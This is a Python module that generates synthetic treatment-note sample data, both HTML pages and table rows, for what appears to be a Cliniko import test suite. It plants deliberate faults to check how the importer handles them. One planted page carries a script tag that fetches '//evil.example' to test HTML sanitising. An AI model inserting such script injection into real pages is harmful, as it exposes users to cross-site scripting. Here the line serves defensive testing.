"""Treatment notes: one note for nearly every attended visit."""

from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from hashlib import sha256
from html import escape

from app.sources.cliniko.sample.bundle import Shape
from app.sources.cliniko.sample.children import client_of, planted_rows
from app.sources.cliniko.sample.invented_names import plain_name
from app.sources.cliniko.sample.kinds.sample_kind import Document, SampleKind
from app.sources.cliniko.sample.kinds.treatment_note_templates import note_template_of
from app.sources.cliniko.sample.planting import Plant, Planted
from app.sources.cliniko.sample.prose import Prose
from app.sources.cliniko.sample.sample_columns import ARCHIVED, CREATED, UPDATED, CellForm, SampleColumn, SampleValue
from app.sources.cliniko.sample.sample_columns import DELETED as DELETED_AT
from app.sources.cliniko.sample.sample_row import SampleRow
from app.sources.cliniko.sample.world import SampleVisit, World
from app.sources.cliniko.sample.written_content import planted_content, visit_note

# Treatment notes that are HTML pages, one file each in the folder of their client.

PLANTS = (
    Plant("page_of_nobody", ("note_without_patient",), "held"),
    Plant("page_without_id", ("synthetic_key_used",)),
    Plant("page_of_a_row", ("note_document_duplicate",), "skipped"),
    Plant("page_with_script", ("html_sanitised",)),
)
FOLDER = "Treatment notes"
_KEY = "note_pages"
_EXTRA = 12


def pages(world: World) -> Iterator[Document]:
    """The notes that are HTML pages."""
    rng = world.random(_KEY)
    prose, people = Prose(rng), world.plain_patients(world.size.patients // 2)
    among = _EXTRA + world.size.few * len(PLANTS)
    plants = world.planted(_KEY, PLANTS, among, by_api=True)
    for index in range(among):
        planted, patient = plants.get(index), next(people)
        name = planted.plant.name if planted else ""
        first, last = plain_name(patient)
        client, key = client_of(world, None, patient), f"{920_000_001 + index * 13}"
        if planted and name == "page_of_nobody":
            client = str(999_820_001 + planted.turn)
        elif planted and name == "page_of_a_row":
            key = world.note_id(_ordinary_note(world, planted.turn))
        day = (date(2021, 2, 1) + timedelta(days=index % 900)).isoformat()
        named = "" if name == "page_without_id" else f" [{key}]"
        path = f"{FOLDER}/{client} - {last}, {first}/{day} Follow-up{named}.html"
        answers = [prose.sentences(bank, 2) for bank in ("subjective", "objective", "plan")]
        body = _page(world.people[world.treating[index % 3]].name, answers, script=name == "page_with_script")
        source_id = sha256(path.encode()).hexdigest() if name == "page_without_id" else key
        row = next(planted_rows(source_id, {}, planted, records=("progress_notes",)))
        yield Document(path, body, row)


def _ordinary_note(world: World, turn: int) -> int:
    """The index of a note without a plant; the first notes are left out, as their template is unknown."""
    few = world.size.few
    return [index for index in range(len(world.notes) + 2 * few) if index not in world.notes][few + turn]


def _page(author: str, answers: list[str], *, script: bool) -> bytes:
    subjective, objective, plan = (escape(answer) for answer in answers)
    more = "<script>fetch('//evil.example')</script>" if script else ""
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="author" content="{escape(author)}">'
        f"<title>Follow-up</title></head><body><h1>Follow-up</h1>\n<h2>Subjective</h2>\n<h3>How has it been?</h3>"
        f"<p>{subjective}</p>{more}\n<h2>Objective</h2>\n<h3>Findings</h3><p>{objective}</p>\n"
        f"<p><strong>Plan</strong></p><ul><li>{plan}</li></ul></body></html>\n"
    ).encode()


COLUMNS = (
    SampleColumn("id", CellForm.ID),
    SampleColumn("patient_id", CellForm.LINK),
    SampleColumn("practitioner_id", CellForm.LINK),
    SampleColumn("author_name"),
    SampleColumn("booking_id", CellForm.LINK, to="bookings"),
    SampleColumn("attendee_id", CellForm.LINK),
    SampleColumn("treatment_note_template_id", CellForm.LINK, key="template_id"),
    SampleColumn("title"),
    SampleColumn("content", CellForm.JSON),
    SampleColumn("draft", CellForm.BOOL),
    SampleColumn("finalized_at", CellForm.TIME),
    SampleColumn("pinned_at", CellForm.TIME),
    ARCHIVED,
    CREATED,
    UPDATED,
    DELETED_AT,
)


_ELSEWHERE = ("no_patient", "unknown_booking", "no_booking", "not_json", "no_sections")
"""Plants whose notes belong to no visit."""


def is_attended(world: World, visit: SampleVisit) -> bool:
    """Whether a visit is past, attended, and without a plant."""
    return visit.index < world.past and visit.status == "arrived" and visit.planted is None


def note_state(world: World, nth: int) -> str:
    """The state of the note of the nth attended visit: `draft`, `final`, or empty without a note."""
    name = planted.plant.name if (planted := world.notes.get(nth)) else ""
    if nth >= world.size.notes or name in _ELSEWHERE or name.startswith("of_"):
        return ""
    return "draft" if name == "draft" else "final"


def attended(world: World) -> Iterator[SampleVisit]:
    """The attended visits without a plant, in order of time."""
    for index in range(world.past):
        if is_attended(world, visit := world.visit(index)):
            yield visit


def _plain(world: World, index: int, visit: SampleVisit | None) -> dict[str, SampleValue]:
    if visit is None:
        written = datetime(2026, 1, 5, 0, 0, tzinfo=UTC) + timedelta(minutes=index % 400_000)
        patient, practitioner, booking = world.patient_for(index + 7), world.treating[0], None
    else:
        written = visit.starts + timedelta(minutes=visit.minutes + 5)
        patient, practitioner, booking = visit.patient, visit.practitioner, world.appointment_id(visit.index)
    return {
        "id": world.note_id(index),
        "patient_id": world.patient_id(patient),
        "practitioner_id": world.practitioner_id(practitioner),
        "author_name": world.people[practitioner].name,
        "booking_id": booking,
        "template_id": note_template_of(world, index) if index % 2 else None,
        "title": "Initial assessment" if visit and visit.type == 0 else "Standard consultation",
        "draft": False,
        "finalized_at": written + timedelta(minutes=10),
        "created_at": written,
        "updated_at": written + timedelta(minutes=10),
    }


def _apply_plant(world: World, values: dict[str, SampleValue], planted: Planted) -> None:
    name, turn = planted.plant.name, planted.turn
    if name.startswith("of_"):
        values |= {"patient_id": world.patient_id(world.patient_at(name.removeprefix("of_"), turn)), "booking_id": None}
    elif name == "no_patient":
        values |= {"patient_id": str(999_300_001 + turn), "booking_id": None}
    elif name == "unknown_booking":
        values["booking_id"] = str(999_400_001 + turn)
    elif name == "no_booking":
        values["booking_id"] = None
    elif name == "unknown_practitioner":
        values |= {"practitioner_id": str(999_500_001 + turn), "author_name": "Locum Nobody"}
    elif name == "draft":
        values |= {"draft": True, "finalized_at": None}
    elif name == "archived":
        values["archived_at"] = datetime(2026, 2, 2, 3, 0, tzinfo=UTC)
    elif name == "pinned":
        values["pinned_at"] = datetime(2026, 2, 2, 4, 0, tzinfo=UTC)


def rows(world: World) -> Iterator[SampleRow]:
    """One row for each note, and the second rows of plants."""
    rng = world.random("treatment_notes")
    prose = Prose(rng)
    visits = attended(world)
    strays = world.size.few  # notes with an unknown template
    for index in range(world.size.notes):
        values = _plain(world, index, next(visits, None))
        planted = world.notes.get(index)
        if planted is None:
            values["content"] = visit_note(rng, prose)
            problems: tuple[str, ...] = ()
            if strays:
                strays -= 1
                values["template_id"], problems = str(999_830_001 + strays), ("template_unknown",)
            yield SampleRow(str(values["id"]), values, problems=problems, records=("progress_notes",))
            continue
        plant = planted.plant
        values["content"] = planted_content(plant.name, rng, prose)
        _apply_plant(world, values, planted)
        key, marks = str(values["id"]), (plant.name,)
        row = SampleRow(key, values, plant.outcome, plant.codes, records=("progress_notes",), marks=marks)
        if plant.name == "conflict":
            created = values["created_at"]
            earlier = created + timedelta(minutes=1) if isinstance(created, datetime) else None
            older = values | {"title": "First version", "updated_at": earlier, "content": visit_note(rng, prose)}
            loser = SampleRow(key, older, "skipped", ("id_conflict_newest_used",), marks=marks)
            yield from (loser, row) if planted.turn % 2 else (row, loser)
        else:
            yield row
            if plant.extra_row:
                yield SampleRow(key, values, "skipped", ("duplicate_row",), marks=marks)


def total(world: World) -> int:
    """The number of rows, without pages."""
    return world.size.notes + sum(planted.plant.extra_row for planted in world.notes.values())


KIND = SampleKind(
    "treatment_notes",
    "Treatment notes",
    COLUMNS,
    rows,
    shape=Shape.LINES,
    folder="Treatment notes",
    total=total,
    documents=pages,
)
